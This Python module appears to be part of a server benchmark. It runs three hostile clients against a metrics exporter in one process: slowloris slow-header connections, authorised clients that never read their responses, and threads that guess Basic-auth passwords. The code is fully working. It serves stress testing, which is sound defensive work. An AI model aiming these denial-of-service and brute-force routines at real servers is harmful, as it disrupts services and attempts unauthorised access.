"""Hostile HTTP clients for the serving benchmark and its end-to-end test, as one process.

What an attacker (or a careless fleet) on the exporter's network does, all at once:

* **slow headers** — *N* connections, each sending one byte of a never-ending request head
  every *interval* seconds (slowloris). A connection the server closes is opened again at
  once, so the attacker always tries to hold *N*;
* **non-readers** — *M* connections that each send a complete, authorised ``GET /metrics``
  (plain text, no gzip) with a tiny receive buffer and then never read a byte. When the server
  gives up on one (its TCP state leaves ESTABLISHED), it is replaced;
* **password guessers** — *K* threads sending ``GET /metrics`` with a wrong password (for the
  real user and for unknown users, alternately) as fast as the server answers.

Why a process of its own: the measuring client (scraper, prober) must not share an event loop
or a GIL with 1,100 sockets and 16 busy threads, or the figures would measure the attacker.

Run by :mod:`bench.hostile_bench`; by hand::

    python -m bench.hostile_clients --url http://127.0.0.1:10151 --user prometheus \\
        --seconds 30 --slow 1100 --non-readers 50 --guessers 16

The right password (the non-readers are authorised scrapers) comes from ``HOSTILE_PASSWORD``.

It prints one JSON document of counters when it ends (after ``--seconds`` or on SIGTERM).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import http.client
import json
import os
import random
import resource
import signal
import socket
import struct
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

__all__ = ["AttackPlan", "main"]

_TCP_ESTABLISHED = 1


@dataclass
class AttackPlan:
    """What to throw at the server; zero turns a kind of client off."""

    host: str
    port: int
    seconds: float = 30.0
    slow: int = 1100
    slow_interval: float = 5.0
    non_readers: int = 50
    guessers: int = 16
    user: str = "prometheus"
    password: str = ""
    path: str = "/metrics"


@dataclass
class Tally:
    """What happened, for the report: counters only (one JSON document at the end)."""

    counters: Counter[str] = field(default_factory=Counter)
    slow_open: int = 0
    slow_open_max: int = 0
    lifetimes: list[float] = field(default_factory=list)
    guess_latency: list[float] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self, key: str, n: int = 1) -> None:
        with self.lock:
            self.counters[key] += n


def _raise_fd_limit() -> int:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def _authorization(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


# -- slow headers ---------------------------------------------------------------------------


async def _slow_header(plan: AttackPlan, tally: Tally, stop: asyncio.Event, n: int) -> None:
    head = (
        f"GET {plan.path} HTTP/1.1\r\nHost: {plan.host}\r\nUser-Agent: slowloris/{n}\r\n"
        "X-Padding: " + "a" * 4000
    ).encode()
    rng = random.Random(n)
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(plan.host, plan.port)
        except OSError:
            tally.count("slow_connect_failed")
            await asyncio.sleep(0.05)
            continue
        tally.count("slow_connected")
        tally.slow_open += 1
        tally.slow_open_max = max(tally.slow_open_max, tally.slow_open)
        opened = time.monotonic()
        # first byte at a random phase, so the bytes of N connections are spread out
        wait = rng.uniform(0, plan.slow_interval)
        sent = 0
        try:
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(65536), wait)
                except TimeoutError:
                    writer.write(head[sent % len(head) : sent % len(head) + 1])
                    sent += 1
                    wait = plan.slow_interval
                    continue
                if not data:  # the server closed it
                    tally.count("slow_closed_by_server")
                    break
                tally.count("slow_answered")  # an error response (408, 431…), then closed
        except OSError:
            tally.count("slow_reset_by_server")
        finally:
            tally.slow_open -= 1
            tally.lifetimes.append(time.monotonic() - opened)
            writer.transport.abort()


# -- non-readers ----------------------------------------------------------------------------


def _tcp_state(sock: socket.socket) -> int:
    info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
    return int(struct.unpack("B", info[:1])[0])


async def _non_reader(plan: AttackPlan, tally: Tally, stop: asyncio.Event) -> None:
    loop = asyncio.get_running_loop()
    request = (
        f"GET {plan.path} HTTP/1.1\r\nHost: {plan.host}\r\nAccept: text/plain\r\n"
        f"Authorization: {_authorization(plan.user, plan.password)}\r\n\r\n"
    ).encode()
    while not stop.is_set():
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        try:
            await loop.sock_connect(sock, (plan.host, plan.port))
            await loop.sock_sendall(sock, request)
        except OSError:
            tally.count("non_reader_connect_failed")
            sock.close()
            await asyncio.sleep(0.05)
            continue
        tally.count("non_reader_requests")
        opened = time.monotonic()
        try:
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), 0.5)
                if _tcp_state(sock) != _TCP_ESTABLISHED:
                    tally.count("non_reader_cut_by_server")
                    with tally.lock:
                        tally.lifetimes.append(time.monotonic() - opened)
                    break
        finally:
            with contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.close()


# -- password guessers ----------------------------------------------------------------------


def _guesser(plan: AttackPlan, tally: Tally, stop: threading.Event, n: int) -> None:
    connection: http.client.HTTPConnection | None = None
    attempt = 0
    while not stop.is_set():
        attempt += 1
        user = plan.user if attempt % 2 else f"admin{n}"
        headers = {"Authorization": _authorization(user, f"guess-{n}-{attempt}")}
        started = time.monotonic()
        try:
            if connection is None:
                connection = http.client.HTTPConnection(plan.host, plan.port, timeout=30)
            connection.request("GET", plan.path, headers=headers)
            response = connection.getresponse()
            response.read()
            status = response.status
            if response.getheader("connection", "").lower() == "close":
                connection.close()
                connection = None
        except (OSError, http.client.HTTPException):
            status = 0
            if connection is not None:
                connection.close()
            connection = None
        with tally.lock:
            tally.counters[f"guess_{status or 'error'}"] += 1
            if status:
                tally.guess_latency.append(time.monotonic() - started)
    if connection is not None:
        connection.close()


# -- the whole attack -----------------------------------------------------------------------


async def attack(plan: AttackPlan, stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Run every client of *plan* until ``plan.seconds`` pass or *stop* is set; the report."""
    stop = stop or asyncio.Event()
    tally = Tally()
    threads_stop = threading.Event()
    threads = [
        threading.Thread(target=_guesser, args=(plan, tally, threads_stop, n), daemon=True)
        for n in range(plan.guessers)
    ]
    for thread in threads:
        thread.start()
    tasks = [asyncio.create_task(_slow_header(plan, tally, stop, n)) for n in range(plan.slow)]
    tasks += [asyncio.create_task(_non_reader(plan, tally, stop)) for _ in range(plan.non_readers)]
    started = time.monotonic()
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(stop.wait(), plan.seconds)
    stop.set()
    threads_stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    for thread in threads:
        thread.join(35)
    latency = sorted(tally.guess_latency)
    lifetimes = sorted(tally.lifetimes)

    def quantile(values: list[float], q: float) -> float | None:
        return round(values[min(len(values) - 1, int(q * len(values)))], 3) if values else None

    return {
        "seconds": round(time.monotonic() - started, 1),
        "counters": dict(sorted(tally.counters.items())),
        "slow_open_max": tally.slow_open_max,
        "guess_latency_p50_s": quantile(latency, 0.5),
        "guess_latency_p99_s": quantile(latency, 0.99),
        "connection_lifetime_p50_s": quantile(lifetimes, 0.5),
        "connection_lifetime_max_s": quantile(lifetimes, 1.0),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.hostile_clients", description=__doc__)
    parser.add_argument("--url", required=True)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--slow", type=int, default=1100)
    parser.add_argument("--slow-interval", type=float, default=5.0)
    parser.add_argument("--non-readers", type=int, default=50)
    parser.add_argument("--guessers", type=int, default=16)
    parser.add_argument("--user", default="prometheus")
    args = parser.parse_args(argv)
    url = urlsplit(args.url)
    plan = AttackPlan(
        host=url.hostname or "127.0.0.1",
        port=url.port or 80,
        seconds=args.seconds,
        slow=args.slow,
        slow_interval=args.slow_interval,
        non_readers=args.non_readers,
        guessers=args.guessers,
        user=args.user,
        password=os.environ.get("HOSTILE_PASSWORD", ""),
    )
    limit = _raise_fd_limit()
    if limit < plan.slow + plan.non_readers + plan.guessers + 64:
        print(f"file descriptor limit {limit} is too low for this plan", file=sys.stderr)
        return 2

    async def run() -> dict[str, Any]:
        stop = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        return await attack(plan, stop)

    report = asyncio.run(run())
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
